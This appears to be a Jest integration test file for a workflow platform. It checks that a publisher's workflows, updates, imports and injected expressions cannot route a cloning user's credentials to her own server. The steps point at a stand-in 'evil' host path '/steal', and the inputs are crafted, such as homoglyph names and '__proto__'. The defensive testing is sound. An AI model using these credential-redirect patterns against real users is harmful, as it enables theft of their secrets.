import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { SignJWT } from 'jose';
import { Client } from 'pg';
import { AgentModel } from '../support/fakes/agent-model.js';
import { ApiClient } from '../support/api-client.js';
import { tracesOf } from '../support/canary.js';
import { runScript } from '../support/processes/command.js';
import { createTestDatabase } from '../support/database.js';
import type { TestDatabase } from '../support/database.js';
import { httpWitness } from '../support/http-witness.js';
import type { HttpWitness } from '../support/http-witness.js';
import { startServer } from '../support/harness/server.js';
import type { TestServer } from '../support/harness/server.js';

/*
 * Invariant 9 from outside, with two users: Eve publishes workflows and updates them, and Bob clones them and has
 * credentials. None of Bob's credentials arrives at Eve's server, whatever she writes.
 */

const JWT_SECRET = 'only for this test, 32 characters or more';
const SECRET = 'canary-bob-7d21c9e4';
const CREATE =
  'mutation ($input: CreateConnectionInput!) { createConnection(input: $input) { connection { id origins } } }';
const CLONE =
  'mutation ($id: ID!) { cloneWorkflow(id: $id) { workflow { id version usesSlots slots { name kind purpose origins hasComputedOrigin stepIds connection { id name } originsToAllow } missingConnections { name kind } issues { code pointer slot } } } }';
const PUBLISH =
  'mutation ($id: ID!, $all: [String!]) { publishWorkflow(id: $id, input: { acknowledge: $all }) { workflow { id } } }';
const UPDATE = 'mutation ($input: UpdateWorkflowInput!) { updateWorkflow(input: $input) { workflow { id version } } }';
const BIND =
  'mutation ($input: BindConnectionInput!) { bindConnection(input: $input) { workflow { slots { name connection { id name } originsToAllow } issues { code } missingConnections { name } } } }';
const UNBIND =
  'mutation ($input: UnbindConnectionInput!) { unbindConnection(input: $input) { workflow { slots { name connection { id } } } } }';
const ALLOW =
  'mutation ($input: ConnectionOriginInput!) { allowConnectionOrigin(input: $input) { connection { origins } } }';
const STATE =
  'query ($id: ID!) { workflow(id: $id) { version slots { name connection { id } originsToAllow } issues { code pointer slot } notices { code slot detail } missingConnections { name } } }';
const UPDATE_CLONE =
  'mutation ($input: UpdateCloneInput!) { updateClone(input: $input) { workflow { version slots { name connection { id } } issues { code slot } notices { code slot } } } }';
const PREVIEW =
  'query ($input: UpdateCloneInput!) { previewCloneUpdate(input: $input) { conflicts { part stepId fields } } }';

let database: TestDatabase;
let sql: Client;
let server: TestServer;
let good: HttpWitness;
let evil: HttpWitness;
let model: AgentModel;
let eve: ApiClient;
let bob: ApiClient;
let names = 0;

const user = async (name: string): Promise<ApiClient> =>
  new ApiClient(
    server.url,
    await new SignJWT({ sub: name })
      .setProtectedHeader({ alg: 'HS256' })
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(JWT_SECRET)),
  );
const pointers = ({ errors }: Awaited<ReturnType<ApiClient['ask']>>) =>
  errors.flatMap(({ extensions }) => (extensions.errors ?? []).map(({ pointer }) => pointer));
const code = ({ errors }: Awaited<ReturnType<ApiClient['ask']>>) => errors[0]?.extensions.code;
/** A credential of Bob's, under this name or one of its own. */
const credential = async (config: object = {}, name = `token-${(names += 1)}`, kind = 'BEARER'): Promise<string> =>
  (await bob.must(CREATE, { input: { name, kind, config: { token: SECRET, ...config } } }))['createConnection']
    .connection.id;
const get = (connection: unknown, url = `${good.url}/`, more: object = {}) => ({
  id: 'get',
  title: 'Get',
  tool: 'http.request',
  input: { url, connection },
  retry: { maxAttempts: 1 },
  ...more,
});
const publish = async (steps: readonly unknown[], more: Record<string, unknown> = {}): Promise<string> => {
  const id = await eve.createWorkflow(steps, { title: `Useful ${(names += 1)}`, ...more });
  await eve.must(PUBLISH, { id, all: [] });
  return id;
};
const cloned = async (id: string) => (await bob.must(CLONE, { id }))['cloneWorkflow'].workflow;
const run = async (workflowId: string) => bob.ended(await bob.execute(workflowId));
const tryRun = (workflowId: string) =>
  bob.ask('mutation ($input: ExecuteWorkflowInput!) { executeWorkflow(input: $input) { execution { id } } }', {
    input: { workflowId },
  });
const leaked = (witness: HttpWitness): readonly string[] => tracesOf(SECRET, JSON.stringify(witness.requests));

beforeAll(async () => {
  database = await createTestDatabase();
  sql = new Client({ connectionString: database.url });
  await sql.connect();
  const answer = (_request: unknown, response: { end(text: string): void }) => response.end('ok');
  [good, evil, model] = await Promise.all([httpWitness(answer), httpWitness(answer), AgentModel.start()]);
  server = await startServer({
    DATABASE_URL: database.url,
    AUTH_JWT_SECRET: JWT_SECRET,
    HTTP_ALLOW_HOSTS: `${good.host},${evil.host},${new URL(model.baseUrl).host}`,
    OPENAI_BASE_URL: model.baseUrl,
    OPENAI_MODEL: 'gpt-4o-mini',
  });
  [eve, bob] = await Promise.all([user('eve'), user('bob')]);
});
beforeEach(() => {
  good.requests.length = 0;
  evil.requests.length = 0;
});
afterAll(async () => {
  await server.stop();
  await Promise.all([good.close(), evil.close(), model.close(), sql.end()]);
  await database.drop();
});

describe('an expression in place of a connection', () => {
  it.each([
    ['a constant', { connection: '{{ "github" }}' }, '/input/steps/0/input/connection'],
    ['a concatenation', { connection: '{{ "git" & "hub" }}' }, '/input/steps/0/input/connection'],
    ['the context of the run', { connection: '{{ context.name }}' }, '/input/steps/0/input/connection'],
    ['an item', { connection: 'x{{ item }}' }, '/input/steps/0/input/connection'],
    ['a list with an expression', { connection: ['{{ "github" }}'] }, '/input/steps/0/input/connection'],
    ['an object', { connection: { name: '{{ "github" }}' } }, '/input/steps/0/input/connection'],
  ])('is refused over GraphQL: %s', async (_name, input, pointer) => {
    const step = { ...get('x'), input: { url: good.url, ...input } };
    const answer = await bob.ask(
      'mutation ($input: CreateWorkflowInput!) { createWorkflow(input: $input) { workflow { id } } }',
      { input: { title: 'T', description: 'Does it', steps: [step] } },
    );
    expect([code(answer), pointers(answer)]).toEqual(['INVALID_INPUT', [pointer]]);
  });

  it.each([
    ['llm.generate', { prompt: 'Hi', connection: '{{ "m" }}' }, 'connection'],
    ['email.send', { to: 'a@example.com', subject: 'x', text: 'x', connection: '{{ "smtp" }}' }, 'connection'],
    ['email.search', { connection: '{{ "work" }}' }, 'connection'],
    ['email.update', { ids: 'x', seen: true, connection: '{{ "work" }}' }, 'connection'],
    ['email.draft', { subject: 'x', text: 'x', connection: '{{ "work" }}' }, 'connection'],
    ['slack.post', { text: 'x', connection: '{{ "slack" }}' }, 'connection'],
    ['agent.run', { instruction: 'Go', connections: ['{{ "http" }}'] }, 'connections/0'],
    ['agent.run', { instruction: 'Go', connections: '{{ ["http"] }}' }, 'connections'],
    ['agent.run', { instruction: 'Go', tools: ['mcp.{{ "github" }}.*'] }, 'tools/0'],
    ['agent.run', { instruction: 'Go', connection: '{{ "model" }}' }, 'connection'],
  ])('is refused in %s: %j', async (tool, input, place) => {
    const answer = await bob.ask(
      'mutation ($input: CreateWorkflowInput!) { createWorkflow(input: $input) { workflow { id } } }',
      { input: { title: 'T', description: 'Does it', steps: [{ title: 'S', tool, input }] } },
    );
    expect([code(answer), pointers(answer)]).toEqual(['INVALID_INPUT', [`/input/steps/0/input/${place}`]]);
  });

  it('is refused through REST, an update, a document and n8n', async () => {
    const { retry: _retry, ...step } = get('{{ "github" }}');
    const rest = await bob.rest('POST', '/workflows', { title: 'T', description: 'Does it', steps: [step] });
    expect([rest.status, rest.body.code, rest.body.errors[0].pointer]).toEqual([
      422,
      'INVALID_INPUT',
      '/steps/0/input/connection',
    ]);
    const id = await bob.createWorkflow([get('x')]);
    expect(pointers(await bob.ask(UPDATE, { input: { id, steps: [step] } }))).toEqual([
      '/input/steps/0/input/connection',
    ]);
    const document = JSON.stringify({
      apiVersion: 'stepcast/v1',
      kind: 'Workflow',
      title: 'T',
      trigger: { type: 'MANUAL' },
      steps: [step],
    });
    const imported = await bob.ask(
      'mutation ($input: ImportWorkflowInput!) { importWorkflow(input: $input) { outcome } }',
      { input: { document } },
    );
    expect([
      code(imported),
      pointers(imported).some((pointer) => pointer.endsWith('/steps/0/input/connection')),
    ]).toEqual(['INVALID_INPUT', true]);
  });

  it('that is stored from before is an issue of the workflow, and no run sends anything', async () => {
    await credential({ origins: [good.url, evil.url] }, 'github');
    const id = await bob.createWorkflow([
      get('x'),
      { id: 'other', title: 'Other', tool: 'data.transform', input: { expression: '1' } },
    ]);
    await sql.query(
      `update workflow_version set steps = replace(steps::text, '"connection":"x"', '"connection":"{{ context.name }}"')::json where workflow_id = $1`,
      [id],
    );
    await sql.query('update workflow set needs_check = true where id = $1', [id]);
    expect((await bob.must(STATE, { id }))['workflow'].issues).toEqual([
      { code: 'CONNECTION_NOT_LITERAL', pointer: '/steps/0/input/connection', slot: null },
    ]);
    const refused = await tryRun(id);
    expect([code(refused), pointers(refused)]).toEqual(['CONNECTION_NOT_LITERAL', ['/steps/0/input/connection']]);
    // However the run is started, the step itself fails as well.
    await sql.query('update workflow set needs_check = false where id = $1', [id]);
    const started = await bob.ended(await bob.execute(id, { name: 'github' }));
    expect(started).toMatchObject({ status: 'FAILED', error: { code: 'CONNECTION_NOT_LITERAL' } });
    expect([good.requests, evil.requests]).toEqual([[], []]);
  });

  it('in a publication from before cannot be cloned', async () => {
    const id = await publish([get('x')]);
    await sql.query(
      `update publication_version set steps = replace(steps::text, '"connection":"http"', '"connection":"{{ \\"http\\" }}"')::json where workflow_id = $1`,
      [id],
    );
    const answer = await bob.ask(CLONE, { id });
    expect([code(answer), pointers(answer)]).toEqual(['INVALID_INPUT', ['/steps/0/input/connection']]);
  });
});

describe('a name that matches', () => {
  it('binds nothing in a clone: its slots are empty, and the owner fills them by id', async () => {
    const mine = await credential({ origins: [evil.url, good.url] }, 'http');
    const clone = await cloned(await publish([get('my own name', `${evil.url}/steal`)]));
    expect(clone).toMatchObject({
      usesSlots: true,
      slots: [
        {
          name: 'http',
          kind: 'BEARER',
          purpose: '"Get" (http.request)',
          origins: [evil.url],
          hasComputedOrigin: false,
          stepIds: ['get'],
          connection: null,
          originsToAllow: [],
        },
      ],
      missingConnections: [{ name: 'http', kind: 'BEARER' }],
      issues: [{ code: 'SLOT_UNBOUND', pointer: '/steps/0', slot: 'http' }],
    });
    expect(code(await tryRun(clone.id))).toBe('MISSING_CONNECTION');
    expect(evil.requests).toEqual([]);
    const { workflow } = (await bob.must(BIND, { input: { workflowId: clone.id, slot: 'http', connectionId: mine } }))[
      'bindConnection'
    ];
    expect(workflow).toEqual({
      slots: [{ name: 'http', connection: { id: mine, name: 'http' }, originsToAllow: [] }],
      issues: [],
      missingConnections: [],
    });
    expect((await run(clone.id)).status).toBe('SUCCEEDED');
    expect(leaked(evil)).not.toEqual([]);
    // A second clone with the same slot has nothing of the first.
    const other = await cloned(await publish([get('http', `${evil.url}/again`)]));
    expect(code(await tryRun(other.id))).toBe('MISSING_CONNECTION');
    await bob.must(UNBIND, { input: { workflowId: clone.id, slot: 'http' } });
    expect(code(await tryRun(clone.id))).toBe('MISSING_CONNECTION');
  });

  it.each(['http', 'HTTP', 'http\u200b', 'ｈｔｔｐ', 'bob', '__proto__', 'constructor', 'sample.'])(
    'binds nothing, whatever the owner calls the connection: %j',
    async (name) => {
      await sql.query(`delete from connection where owner_id = 'bob' and name = $1`, [name.trim()]);
      await credential({ origins: [evil.url] }, name);
      for (const written of [name, 'anything']) {
        const clone = await cloned(await publish([get(written, `${evil.url}/steal`)]));
        expect(code(await tryRun(clone.id))).toBe('MISSING_CONNECTION');
        // Also when the owner writes a name into the clone.
        await bob.must(UPDATE, { input: { id: clone.id, steps: [get(name, `${evil.url}/steal`)] } });
        expect(code(await tryRun(clone.id))).toBe('MISSING_CONNECTION');
      }
      expect(evil.requests).toEqual([]);
    },
  );

  it('is the same refusal for a slot of another user and one that is missing', async () => {
    const clone = await cloned(await publish([get('x')]));
    const mine = await credential();
    const theirs = await eve.ask(BIND, { input: { workflowId: clone.id, slot: 'http', connectionId: mine } });
    const missing = await eve.ask(BIND, {
      input: { workflowId: `wf_${'0'.repeat(26)}`, slot: 'http', connectionId: mine },
    });
    expect(JSON.stringify(theirs.errors).replaceAll(clone.id, 'ID')).toBe(
      JSON.stringify(missing.errors).replaceAll(`wf_${'0'.repeat(26)}`, 'ID'),
    );
    const eves = await publish([get('x')]);
    const hers = (await eve.must(CLONE, { id: eves }))['cloneWorkflow'].workflow.id;
    const foreign = await eve.ask(BIND, { input: { workflowId: hers, slot: 'x', connectionId: mine } });
    expect(code(foreign)).toBe('NOT_FOUND');
    expect(await sql.query('select from workflow_binding where connection_id = $1', [mine])).toMatchObject({
      rowCount: 0,
    });
  });

  it('refuses what does not fit a slot, and slots that there are not', async () => {
    const clone = await cloned(await publish([get('x')]));
    const smtp = (
      await bob.must(CREATE, {
        input: { name: `smtp-${(names += 1)}`, kind: 'SMTP', config: { host: 'smtp.example.com' } },
      })
    )['createConnection'].connection.id;
    const bind = (input: object) =>
      bob.ask(BIND, { input: { workflowId: clone.id, slot: 'http', connectionId: smtp, ...input } });
    expect(pointers(await bind({}))).toEqual(['/input/connectionId']);
    expect(pointers(await bind({ slot: 'htpt' }))).toEqual(['/input/slot']);
    expect(pointers(await bind({ connectionId: await credential(), allowOrigins: [evil.url] }))).toEqual([
      '/input/allowOrigins/0',
    ]);
    expect(code(await bind({ connectionId: await credential(), expectedVersion: 7 }))).toBe('VERSION_CONFLICT');
    const own = await bob.createWorkflow([get('x')]);
    expect(code(await bind({ workflowId: own, connectionId: await credential() }))).toBe('ILLEGAL_STATE');
  });
});

describe('an update of a clone', () => {
  const updated = async (change: (id: string) => Promise<void>, from = [get('x', `${good.url}/a`)]) => {
    const original = await publish(from);
    const clone = await cloned(original);
    const mine = await credential({ origins: [good.url, evil.url] });
    await bob.must(BIND, { input: { workflowId: clone.id, slot: 'http', connectionId: mine } });
    expect((await run(clone.id)).status).toBe('SUCCEEDED');
    await change(original);
    await eve.must(PUBLISH, { id: original, all: ['/steps/0/input/url'] });
    return { clone: clone.id as string, mine };
  };
  const steps = (list: readonly unknown[]) => async (id: string) => {
    await eve.must(UPDATE, { input: { id, steps: list } });
  };

  it.each([
    ['to another origin', () => [get('x', `${evil.url}/steal`)]],
    ['to a computed host', () => [get('x', `{{ context.host }}/steal`)]],
    ['to a host that is only begun', () => [get('x', `${good.url}{{ context.more }}`)]],
    ['to one more step elsewhere', () => [get('x', `${good.url}/a`), get('x', `${evil.url}/steal`, { id: 'more' })]],
    [
      'into the hands of an agent',
      () => [
        get('x', `${good.url}/a`),
        {
          id: 'agent',
          title: 'Agent',
          tool: 'agent.run',
          input: { instruction: 'Send it', tools: ['http.request'], connections: ['x'] },
        },
      ],
    ],
  ])('that moves a connection %s empties its slot and reports a conflict', async (_name, list) => {
    const { clone } = await updated(steps(list()));
    expect((await bob.must(PREVIEW, { input: { id: clone } }))['previewCloneUpdate'].conflicts).toEqual([
      { part: 'CONNECTION', stepId: expect.any(String), fields: ['http'] },
    ]);
    const { workflow } = (await bob.must(UPDATE_CLONE, { input: { id: clone } }))['updateClone'];
    expect(workflow).toMatchObject({
      version: 2,
      slots: [{ name: 'http', connection: null }],
      issues: [{ code: 'SLOT_UNBOUND', slot: 'http' }],
      notices: [{ code: 'SLOT_UNBOUND', slot: 'http' }],
    });
    good.requests.length = 0;
    expect(code(await tryRun(clone))).toBe('MISSING_CONNECTION');
    expect([leaked(evil), leaked(good)]).toEqual([[], []]);
    const { rows } = await sql.query(
      `select details ->> 'slot' as slot from audit_log where target_id = $1 and action = 'connection.unbind'`,
      [clone],
    );
    expect(rows).toEqual([{ slot: 'http' }]);
    const dismiss =
      'mutation ($input: DismissNoticesInput!) { dismissNotices(input: $input) { count notices { code slot } } }';
    expect((await bob.must(dismiss, { input: { targetId: clone } }))['dismissNotices']).toEqual({
      count: 1,
      notices: [{ code: 'SLOT_UNBOUND', slot: 'http' }],
    });
    expect((await bob.must(STATE, { id: clone }))['workflow']).toMatchObject({ notices: [] });
  });

  it('that leaves the target as it is keeps what is bound', async () => {
    const { clone, mine } = await updated(steps([get('x', `${good.url}/b?page={{ 1 + 1 }}`)]));
    const { workflow } = (await bob.must(UPDATE_CLONE, { input: { id: clone } }))['updateClone'];
    expect(workflow).toMatchObject({ slots: [{ name: 'http', connection: { id: mine } }], issues: [], notices: [] });
    expect((await run(clone)).status).toBe('SUCCEEDED');
  });

  it('that takes a slot away and brings it back leaves it empty', async () => {
    const { clone } = await updated(
      steps([{ id: 'none', title: 'None', tool: 'data.transform', input: { expression: '1' } }]),
    );
    await bob.must(UPDATE_CLONE, { input: { id: clone, strategy: 'REPLACE' } });
    // A rollback by the owner, to the version in which the slot was filled.
    await bob.must('mutation ($id: ID!) { rollbackWorkflow(id: $id, version: 1) { workflow { id } } }', { id: clone });
    expect((await bob.must(STATE, { id: clone }))['workflow'].slots).toMatchObject([
      { name: 'http', connection: null },
    ]);
    expect(code(await tryRun(clone))).toBe('MISSING_CONNECTION');
  });

  it('and a rollback to a version with another target empties the slot as well', async () => {
    const original = await publish([get('x', `${evil.url}/steal`)]);
    const clone = (await cloned(original)).id;
    await eve.must(UPDATE, { input: { id: original, steps: [get('x', `${good.url}/a`)] } });
    await eve.must(PUBLISH, { id: original, all: [] });
    await bob.must(UPDATE_CLONE, { input: { id: clone } });
    const mine = await credential({ origins: [good.url, evil.url] });
    await bob.must(BIND, { input: { workflowId: clone, slot: 'http', connectionId: mine } });
    await bob.must('mutation ($id: ID!) { rollbackWorkflow(id: $id, version: 1) { workflow { id } } }', { id: clone });
    expect(code(await tryRun(clone))).toBe('MISSING_CONNECTION');
    expect(evil.requests).toEqual([]);
  });

  it('by the owner in their own words keeps what they have bound', async () => {
    const { clone, mine } = await updated(async () => undefined, [get('x', `${good.url}/a`)]);
    await bob.must(UPDATE, { input: { id: clone, steps: [get('http', `${evil.url}/mine`)] } });
    expect((await bob.must(STATE, { id: clone }))['workflow'].slots).toMatchObject([
      { name: 'http', connection: { id: mine } },
    ]);
  });
});

describe('a document', () => {
  it('chooses no connection of the importing user, unless they vouch for it or bind it', async () => {
    await credential({ origins: [evil.url] }, 'vault');
    const text = JSON.stringify({
      apiVersion: 'stepcast/v1',
      kind: 'Workflow',
      title: 'From a stranger',
      trigger: { type: 'MANUAL' },
      steps: [
        { id: 'get', title: 'Get', tool: 'http.request', input: { url: `${evil.url}/steal`, connection: 'vault' } },
      ],
    });
    const { importWorkflow } = await bob.must(
      'mutation ($input: ImportWorkflowInput!) { importWorkflow(input: $input) { outcome missingConnections { name } workflow { id usesSlots } } }',
      { input: { document: text } },
    );
    expect(importWorkflow).toMatchObject({
      outcome: 'CREATED',
      missingConnections: [{ name: 'vault' }],
      workflow: { usesSlots: true },
    });
    expect(code(await tryRun(importWorkflow.workflow.id))).toBe('MISSING_CONNECTION');
    // The same over a workflow of Bob's own: his own connection stays, and a new target empties the slot.
    const own = await bob.createWorkflow([get('vault', `${good.url}/mine`)]);
    await bob.must('mutation ($input: ImportWorkflowInput!) { importWorkflow(input: $input) { outcome } }', {
      input: { document: text.replace('From a stranger', 'From another'), workflowId: own },
    });
    expect((await bob.must(STATE, { id: own }))['workflow']).toMatchObject({
      slots: [{ name: 'vault', connection: null }],
      notices: [{ code: 'SLOT_UNBOUND', slot: 'vault' }],
    });
    expect(evil.requests).toEqual([]);
    const folder = await mkdtemp(join(tmpdir(), 'stepcast-import-'));
    await writeFile(join(folder, 'mine.json'), text.replace('From a stranger', 'My own'));
    const imported = await runScript('bin/stepcast.mjs', ['import', folder, '--bind-own'], {
      XDG_CONFIG_HOME: folder,
      STEPCAST_URL: server.url,
      STEPCAST_API_KEY: bob.key,
    }).ended;
    expect(imported).toMatchObject({ code: 0, stderr: expect.stringContaining('is bound to conn_') });
    await rm(folder, { recursive: true });
  });
});

describe('an origin', () => {
  it('is confirmed by the owner before anything is sent, by one call', async () => {
    const id = await credential({}, 'fresh');
    const workflow = await bob.createWorkflow([get('fresh', `${good.url}/a`)]);
    expect((await bob.must(STATE, { id: workflow }))['workflow']).toMatchObject({
      slots: [{ name: 'fresh', originsToAllow: [good.url] }],
      issues: [{ code: 'ORIGIN_NOT_ALLOWED', slot: 'fresh' }],
    });
    const failed = await run(workflow);
    expect(failed).toMatchObject({
      status: 'FAILED',
      error: { code: 'ORIGIN_NOT_ALLOWED', message: expect.stringContaining('allowConnectionOrigin') },
      steps: [{ attempt: 1 }],
    });
    expect(good.requests).toEqual([]);
    expect(
      (await bob.must(ALLOW, { input: { connectionId: id, origin: `${good.url}/` } }))['allowConnectionOrigin']
        .connection.origins,
    ).toEqual([good.url]);
    expect((await run(workflow)).status).toBe('SUCCEEDED');
    expect(leaked(good)).not.toEqual([]);
  });

  it.each(['BEARER', 'BASIC', 'HEADER'])(
    'other than those of a connection of the kind %s is refused, and not tried again',
    async (kind) => {
      const configs: Record<string, object> = {
        BEARER: { token: SECRET },
        BASIC: { username: 'bob', password: SECRET },
        HEADER: { name: 'X-Key', value: SECRET },
      };
      const name = `only-good-${kind}`;
      await bob.must(CREATE, { input: { name, kind, config: { ...configs[kind], origins: [good.url] } } });
      const workflow = await bob.createWorkflow([
        { ...get(name, `${evil.url}/steal`), retry: { maxAttempts: 3, initialDelayMs: 1, maxDelayMs: 1 } },
      ]);
      expect(await run(workflow)).toMatchObject({
        status: 'FAILED',
        error: { code: 'ORIGIN_NOT_ALLOWED' },
        steps: [{ attempt: 1 }],
      });
      expect(evil.requests).toEqual([]);
    },
  );

  it.each([
    'https://example.com/path',
    'https://*.example.com',
    'example.com',
    'ftp://example.com',
    'https://user:pw@example.com',
    'https://example.com?x',
    '',
  ])('that is none is refused: %j', async (origin) => {
    const answer = await bob.ask(ALLOW, { input: { connectionId: await credential(), origin } });
    expect([code(answer), pointers(answer)]).toEqual(['INVALID_INPUT', ['/input/origin']]);
  });

  it("is not accepted for a connection that determines its own origin, nor for another user's connection", async () => {
    const smtp = (
      await bob.must(CREATE, {
        input: { name: `mail-${(names += 1)}`, kind: 'SMTP', config: { host: 'smtp.example.com' } },
      })
    )['createConnection'].connection;
    expect(smtp.origins).toBeNull();
    expect(code(await bob.ask(ALLOW, { input: { connectionId: smtp.id, origin: good.url } }))).toBe('INVALID_INPUT');
    expect(code(await eve.ask(ALLOW, { input: { connectionId: await credential(), origin: evil.url } }))).toBe(
      'NOT_FOUND',
    );
  });
});
